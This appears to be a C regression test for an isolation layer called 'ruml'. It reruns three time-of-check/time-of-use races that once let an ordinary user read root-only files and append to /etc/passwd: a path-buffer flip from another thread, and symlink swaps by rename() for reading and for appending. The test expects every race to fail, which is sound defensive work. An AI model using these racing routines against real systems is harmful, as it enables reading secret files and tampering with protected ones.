/* Finding 4 of the isolation issue: ruml checked a path, then let the host
 * run the call natively, re-reading the path from guest memory and walking
 * it again. An ordinary user won by flipping the path buffer from another
 * thread (read a root-only file within 1-2 tries), by swapping a symlink
 * with rename() (~40 tries), and with O_WRONLY|O_APPEND appended to
 * /etc/passwd. Each race runs for SECONDS and must never win.
 * Usage (as an ordinary user): race_paths SECONDS SECRET_FILE PROTECTED_FILE
 * SECRET_FILE holds a word the user may not read; PROTECTED_FILE is one
 * the user may not write. /tmp/race must be a directory the user may
 * write. */
#include "escape.h"
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char path[256];
static volatile int stop;
static const char *secret, *protected_file;
static char mine[64], link_name[64], link_tmp[64];

static void *flip_buffer(void *a)
{
    (void)a;
    while (!stop) {
        strcpy(path, mine);
        strcpy(path, secret);
    }
    return NULL;
}

static void *swap_link(void *a)
{
    const char *target = a;
    while (!stop) {
        unlink(link_tmp);
        symlink(mine, link_tmp);
        rename(link_tmp, link_name);
        unlink(link_tmp);
        symlink(target, link_tmp);
        rename(link_tmp, link_name);
    }
    return NULL;
}

static int leaked(int fd)
{
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    return n > 0 && strstr(buf, "guest-secret") != NULL;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Runs attempt() against `racer` for `secs` seconds. */
static void race(const char *what, void *(*racer)(void *), void *arg, int (*attempt)(void),
                 double secs)
{
    pthread_t t;
    stop = 0;
    pthread_create(&t, NULL, racer, arg);
    long tries = 0, wins = 0;
    double end = now() + secs;
    while (now() < end && wins == 0) {
        wins += attempt();
        tries++;
    }
    stop = 1;
    pthread_join(t, NULL);
    char detail[96];
    snprintf(detail, sizeof detail, "%ld tries, %ld wins", tries, wins);
    report(what, wins > 0, detail);
}

static int open_flipped(void) { return leaked(open(path, O_RDONLY)); }
static int open_link(void) { return leaked(open(link_name, O_RDONLY)); }
static int append_link(void)
{
    int fd = open(link_name, O_WRONLY | O_APPEND);
    if (fd < 0)
        return 0;
    int won = write(fd, "race-marker\n", 12) == 12;
    struct stat st, prot;
    /* Writing to the user's own file is allowed: only a write that
     * reached the protected file wins. */
    won = won && fstat(fd, &st) == 0 && stat(protected_file, &prot) == 0 &&
          st.st_ino == prot.st_ino && st.st_dev == prot.st_dev;
    close(fd);
    return won;
}

int main(int argc, char **argv)
{
    if (argc < 4)
        return 2;
    double secs = atof(argv[1]);
    secret = argv[2];
    protected_file = argv[3];
    /* A directory every user may write, without the sticky bit (on a
     * hostfs root what this user makes belongs to root). */
    snprintf(mine, sizeof mine, "/tmp/race/mine");
    snprintf(link_name, sizeof link_name, "/tmp/race/l");
    snprintf(link_tmp, sizeof link_tmp, "/tmp/race/l.tmp");
    umask(0);
    int fd = open(mine, O_CREAT | O_WRONLY, 0666);
    if (fd < 0 || write(fd, "nothing here\n", 13) != 13)
        return 3;
    close(fd);
    expect_fail("direct open of the secret", open(secret, O_RDONLY));
    expect_fail("direct append to the protected file", open(protected_file, O_WRONLY | O_APPEND));
    race("path buffer flip", flip_buffer, NULL, open_flipped, secs);
    race("symlink swap, read", swap_link, (void *)secret, open_link, secs);
    race("symlink swap, append", swap_link, (void *)protected_file, append_link, secs);
    return 0;
}
